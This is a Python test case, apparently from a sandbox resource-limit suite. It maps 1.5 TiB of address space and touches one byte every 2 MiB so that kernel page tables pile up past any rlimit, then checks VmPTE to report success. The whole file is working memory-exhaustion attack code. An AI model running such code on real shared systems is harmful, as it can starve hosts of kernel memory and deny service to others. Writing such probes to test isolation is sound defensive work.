"""Reads one byte of each 2 MiB of 1.5 TiB: no data of its own, only page tables, which no rlimit counts.

Bounded: a table of 4 KiB for each 2 MiB read, 3 GiB in all if nobody stops it.
"""

import ctypes
import mmap

CHUNK, STEP, MOST = 1 << 38, 2 << 20, 2048 << 20
NORESERVE, NOHUGEPAGE = 0x4000, 15


def attack(world):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = (*[ctypes.c_size_t] * 2, *[ctypes.c_int] * 3, ctypes.c_size_t)
    libc.madvise.argtypes = (ctypes.c_size_t, ctypes.c_size_t, ctypes.c_int)
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NORESERVE
    for _ in range(6):
        begin = libc.mmap(0, CHUNK, mmap.PROT_READ, flags, -1, 0)
        if begin == ctypes.c_size_t(-1).value:
            print("stopped: no addresses")
            return
        libc.madvise(begin, CHUNK, NOHUGEPAGE)
        for address in range(begin, begin + CHUNK, STEP):
            ctypes.c_char.from_address(address).value
    for line in open("/proc/self/status"):
        if line.startswith("VmPTE") and int(line.split()[1]) << 10 > MOST:
            print("GOT", int(line.split()[1]) >> 10, "MiB of page tables")
